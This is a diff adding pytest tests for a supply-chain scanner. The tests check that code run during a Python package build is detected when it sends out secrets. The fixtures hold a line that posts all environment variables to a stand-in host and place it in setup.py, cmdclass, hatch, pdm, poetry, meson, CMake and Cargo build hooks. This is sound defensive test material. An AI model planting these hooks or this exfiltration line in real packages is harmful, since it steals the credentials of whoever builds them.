@@ -1,0 +1,264 @@
+"""What a build of a source tree runs, as `pip` and the build tools' documentation have it."""
+
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+
+from package_gate.core.finding import Severity
+from package_gate.core.policy import Limits
+from package_gate.scanners.behaviour.scanner import BehaviourScanner
+from package_gate.scanners.guarddog import GuardDog
+from package_gate.scanners.running_files import RunningFiles, Runs
+from tests.fakes.malware_corpus import EXEC_BASE64
+from tests.scanners.packages import package
+
+SDIST = "sample-1.0.tar.gz"
+SENDS = "import os\nimport requests\nrequests.post('https://a.example', json=dict(os.environ))\n"
+IN_A_FUNCTION = SENDS.replace("requests.post", "def go():\n    requests.post")
+COMMAND = (
+    "import os\nimport requests\nfrom setuptools import Command\n\nclass Build(Command):\n"
+    "    def run(self):\n        requests.post('https://a.example', json=dict(os.environ))\n"
+)
+IF_STARTED = SENDS.replace("requests.post", "if __name__ == '__main__':\n    requests.post")
+SETUP = "from setuptools import setup\n"
+SETUPTOOLS = '[build-system]\nbuild-backend = "setuptools.build_meta"\nrequires = []\n'
+
+RUN_BY_A_BUILD: dict[str, tuple[Mapping[str, str], str]] = {
+    "imported": ({"setup.py": f"{SETUP}import helper\n", "helper.py": SENDS}, "helper.py"),
+    "imported from a folder": (
+        {
+            "setup.py": "import sys\nsys.path.insert(0, 'tools')\nimport helper",
+            "tools/helper.py": SENDS,
+        },
+        "tools/helper.py",
+    ),
+    "called there": (
+        {
+            "setup.py": "import sys\nsys.path.append('a/b')\nfrom helper import go\ngo()",
+            "a/b/helper.py": IN_A_FUNCTION,
+        },
+        "a/b/helper.py",
+    ),
+    "a command": (
+        {
+            "setup.py": f"{SETUP}from tools.own import Build\nsetup(cmdclass={{'build': Build}})",
+            "tools/own.py": COMMAND,
+        },
+        "tools/own.py",
+    ),
+    "a command of a package": (
+        {
+            "setup.py": f"{SETUP}import own\nsetup(cmdclass=dict(build=own.Build))",
+            "own/__init__.py": "from .parts import Build\nBuild",
+            "own/parts.py": COMMAND,
+        },
+        "own/parts.py",
+    ),
+    "in two steps": (
+        {"setup.py": "import one", "one.py": "import deep.two", "deep/two.py": SENDS},
+        "deep/two.py",
+    ),
+    "import_module": (
+        {"setup.py": "import importlib\nimportlib.import_module('docs.x')", "docs/x.py": SENDS},
+        "docs/x.py",
+    ),
+    "run_path": (
+        {"setup.py": "import runpy\nrunpy.run_path('docs/x.py')", "docs/x.py": IF_STARTED},
+        "docs/x.py",
+    ),
+    "exec of a file": (
+        {
+            "setup.py": "exec(open('docs/x.py').read())\ngo()\n",
+            "docs/x.py": IN_A_FUNCTION,
+        },
+        "docs/x.py",
+    ),
+    "exec of parts of a path": (
+        {
+            "setup.py": "from os.path import join\nsource = open(join('docs', 'x.py')).read()\n"
+            "exec(compile(source, 'x', 'exec'))",
+            "docs/x.py": SENDS,
+        },
+        "docs/x.py",
+    ),
+    "started": (
+        {
+            "setup.py": "import subprocess, sys\nsubprocess.run([sys.executable, 'docs/x.py'])",
+            "docs/x.py": IF_STARTED,
+        },
+        "docs/x.py",
+    ),
+    "started by its name": (
+        {
+            "setup.py": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'docs.x'])",
+            "docs/x.py": IF_STARTED,
+        },
+        "docs/x.py",
+    ),
+    "setup.cfg attr": (
+        {
+            "setup.cfg": "[metadata]\nversion = attr: tools.version.VERSION\n",
+            "tools/version.py": SENDS,
+        },
+        "tools/version.py",
+    ),
+    "setup.cfg cmdclass": (
+        {
+            "setup.cfg": "[options]\ncmdclass =\n  build = tools.own.Build\n",
+            "tools/own.py": COMMAND,
+        },
+        "tools/own.py",
+    ),
+    "setup.cfg py_modules": (
+        {"setup.cfg": "[options]\npy_modules = x\n", "x.py": SENDS, "own/__init__.py": ""},
+        "x.py",
+    ),
+    "pyproject attr": (
+        {
+            "pyproject.toml": SETUPTOOLS
+            + '[tool.setuptools.dynamic]\nversion = {attr = "a.b.V"}\n',
+            "a/b.py": SENDS,
+        },
+        "a/b.py",
+    ),
+    "pyproject cmdclass": (
+        {
+            "pyproject.toml": f'{SETUPTOOLS}[tool.setuptools.cmdclass]\nbuild = "own.Build"\n',
+            "src/own.py": COMMAND,
+        },
+        "src/own.py",
+    ),
+    "hatch hook": (
+        {
+            "pyproject.toml": '[tool.hatch.build.hooks.custom]\npath = "tools/hook.py"\n',
+            "tools/hook.py": IN_A_FUNCTION,
+        },
+        "tools/hook.py",
+    ),
+    "hatch hook of a target": (
+        {
+            "pyproject.toml": '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "x.py"\n',
+            "x.py": IN_A_FUNCTION,
+        },
+        "x.py",
+    ),
+    "hatch metadata hook in hatch.toml": (
+        {"hatch.toml": '[metadata.hooks.custom]\npath = "./x.py"\n', "x.py": IN_A_FUNCTION},
+        "x.py",
+    ),
+    "hatch version code": (
+        {
+            "pyproject.toml": '[tool.hatch.version]\nsource = "code"\npath = "docs/v.py"\n',
+            "docs/v.py": SENDS,
+        },
+        "docs/v.py",
+    ),
+    "pdm hook": (
+        {"pyproject.toml": '[tool.pdm.build]\ncustom-hook = "a/x.txt"\n', "a/x.txt": IN_A_FUNCTION},
+        "a/x.txt",
+    ),
+    "pdm getter": (
+        {
+            "pyproject.toml": '[tool.pdm.version]\nsource = "call"\ngetter = "a.x:go"\n',
+            "a/x.py": IN_A_FUNCTION,
+        },
+        "a/x.py",
+    ),
+    "poetry script": (
+        {"pyproject.toml": '[tool.poetry.build]\nscript = "a/x"\n', "a/x": IF_STARTED},
+        "a/x",
+    ),
+    "poetry build": (
+        {"pyproject.toml": '[tool.poetry]\nbuild = "a/x.py"\n', "a/x.py": IF_STARTED},
+        "a/x.py",
+    ),
+    "backend": (
+        {
+            "pyproject.toml": '[build-system]\nbackend-path = ["a"]\nbuild-backend = "b"\n',
+            "a/b.py": "import c",
+            "a/c.py": "import d\n",
+            "x/d.py": SENDS,
+        },
+        "x/d.py",
+    ),
+    "meson": (
+        {
+            "meson.build": "subdir('a')\n",
+            "a/meson.build": "run_command(py, files('x.py'))\n",
+            "a/x.py": IF_STARTED,
+        },
+        "a/x.py",
+    ),
+    "CMake": (
+        {
+            "CMakeLists.txt": "include(cmake/more.cmake)\n",
+            "cmake/more.cmake": "execute_process(COMMAND python ${CMAKE_SOURCE_DIR}/a/x.py)\n",
+            "a/x.py": IF_STARTED,
+        },
+        "a/x.py",
+    ),
+    "Cargo": (
+        {"build.rs": 'Command::new("python").arg("a/x.py");\n', "a/x.py": IF_STARTED},
+        "a/x.py",
+    ),
+    "imported by a package": (
+        {"setup.py": SETUP, "own/__init__.py": "import x", "x.py": SENDS},
+        "x.py",
+    ),
+    "a single module": ({"setup.py": SETUP, "anything.py": SENDS}, "anything.py"),
+}
+
+
+@pytest.fixture(scope="module")
+def behaviour() -> BehaviourScanner:
+    return BehaviourScanner(Limits())
+
+
+@pytest.mark.parametrize("top", ["", "sample-1.0/"])
+@pytest.mark.parametrize("name", RUN_BY_A_BUILD)
+def test_what_a_build_runs_is_looked_at(
+    behaviour: BehaviourScanner, tmp_path: Path, name: str, top: str
+) -> None:
+    files, path = RUN_BY_A_BUILD[name]
+    target = package(tmp_path, {f"{top}{p}": text for p, text in files.items()}, filename=SDIST)
+
+    found = {each.rule: each for each in behaviour.scan(target)}
+
+    assert "sends-secrets" in found
+    assert top + path in {place.path for place in found["sends-secrets"].locations}
+
+
+@pytest.mark.parametrize(
+    ("files", "path"),
+    [
+        ({"setup.py": SETUP, "own/__init__.py": ""}, "docs/conf.py"),
+        ({"setup.py": SETUP, "own/__init__.py": ""}, "noxfile.py"),
+        ({"setup.py": SETUP, "own/__init__.py": "", "own/tests/test_a.py": "import x"}, "x.py"),
+        ({"Makefile": "python docs/x.py", "setup.py": SETUP}, "docs/x.py"),
+        ({"docs/a/meson.build": "run_command('x.py')", "setup.py": SETUP}, "docs/x.py"),
+        ({"setup.py": "NAME = 'docs.x'\n"}, "docs/x.py"),
+    ],
+)
+def test_what_it_does_not_run_is_not(
+    behaviour: BehaviourScanner, tmp_path: Path, files: Mapping[str, str], path: str
+) -> None:
+    target = package(tmp_path, {**files, path: SENDS}, filename=SDIST)
+
+    assert list(behaviour.scan(target)) == []
+
+
+def test_guarddog_takes_one_rule_for_enough_there(tmp_path: Path) -> None:
+    files = {"setup.py": "import helper\n", "helper.py": EXEC_BASE64, "own/__init__.py": ""}
+
+    found = list(GuardDog(Limits()).scan(package(tmp_path, files, filename=SDIST)))
+
+    assert Severity.HIGH in {each.severity for each in found}
+
+
+def test_a_wheel_is_not_built(tmp_path: Path) -> None:
+    tree = Path(package(tmp_path, {"setup.py": "import helper", "a/x.txt": ""}).artifacts[0].tree)
+    files = RunningFiles(tree, "sample-1.0-py3-none-any.whl")
+
+    assert files.scripts == frozenset()
+    assert files.when("a/x.txt") is Runs.NEVER
